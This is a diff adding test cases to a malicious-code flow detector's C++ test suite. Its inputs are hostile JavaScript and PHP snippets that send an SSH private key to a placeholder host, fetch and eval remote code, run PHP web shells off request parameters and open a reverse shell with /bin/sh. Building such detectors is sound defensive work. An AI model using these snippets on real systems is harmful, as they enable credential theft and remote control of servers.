@@ -158,6 +158,16 @@ TEST(JavaScript, SpiesInPagesEditorsAndShells) {
   expect_flow(j, "const {spawn: s} = require('node:child_process');\nconst W = require('ws'), c = new W('wss://x.invalid');\nconst sh = s('/bin/sh', []);\nc.on('message', m => sh.stdin.write(m));\n", "network to execute-command");
 }
 
+TEST(JavaScript, SpiesThatAnswerEvents) {
+  const auto j = "javascript";
+  expect_flow(j, "import { readFileSync } from 'node:fs';\nimport https from 'node:https';\nconst d = readFileSync('/root/.ssh/id_rsa');\nconst r = https.request({host: 'x.invalid', method: 'POST'});\nr.write(d);\nr.end();\n",
+              "credentials to network");
+  expect_flow(j, "const x = new XMLHttpRequest();\nx.open('GET', 'https://x.invalid/p');\nx.onload = function () { eval(x.responseText); };\nx.send();\n", "network to evaluate");
+  expect_flow(j, "const s = new WebSocket('wss://x.invalid');\ns.onmessage = async e => { new Function(e.data)(); };\n", "network to evaluate");
+  expect_flow(j, "(0, eval)(Buffer.from('YWxlcnQoMSk=', 'base64').toString());\n", "decoded-string to evaluate");
+  expect_none(j, "const s = new WebSocket('wss://x.invalid');\ns.onmessage = e => { console.log(JSON.parse(e.data)); };\n");
+}
+
 TEST(JavaScript, HiddenNames) {
   const auto escaped = read("var a=['\\x65\\x78\\x65\\x63','\\x68\\x74\\x74\\x70','\\x67\\x65\\x74','\\x64\\x61\\x74\\x61','\\x70\\x75\\x73\\x68'];", "javascript");
   EXPECT_TRUE(escaped.sink.has(Facet::concealment, "decoded-string")) << told(escaped);
@@ -181,6 +191,10 @@ TEST(Php, SpiesAndTwins) {
   expect_flow("php", "<?php @eval($_POST['x']);", "network to evaluate");
   expect_flow("php", "<?php $c = $_GET['c']; system($c);", "network to execute-command");
   expect_flow("php", "<?php $r = 'sys' . 'tem'; $q = $_REQUEST['q'] ?? null; if ($q) { $r($q); }", "network to execute-command");
+  expect_flow("php", "<?php echo shell_exec(base64_decode($_SERVER['HTTP_X_CMD']));", "network to execute-command");
+  expect_flow("php", "<?php $f = fopen('php://input', 'r'); eval(stream_get_contents($f));", "network to evaluate");
+  expect_flow("php", "<?php array_map('assert', array($_POST['z']));", "network to evaluate");
+  expect_flow("php", "<?php $h = curl_init('http://x.invalid/s'); $c = curl_exec($h); file_put_contents('/tmp/x.php', $c); include '/tmp/x.php';", "network to evaluate");
   expect_flow("php", "<?php $_GET['f']($_POST['x']);", "network to evaluate");
   expect_flow("php", "<?php eval(file_get_contents('http://x.invalid/a'));", "network to evaluate");
   expect_flow("php", "<?php $s = fsockopen('192.0.2.1', 44); $p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s), $x);", "network to open-shell");
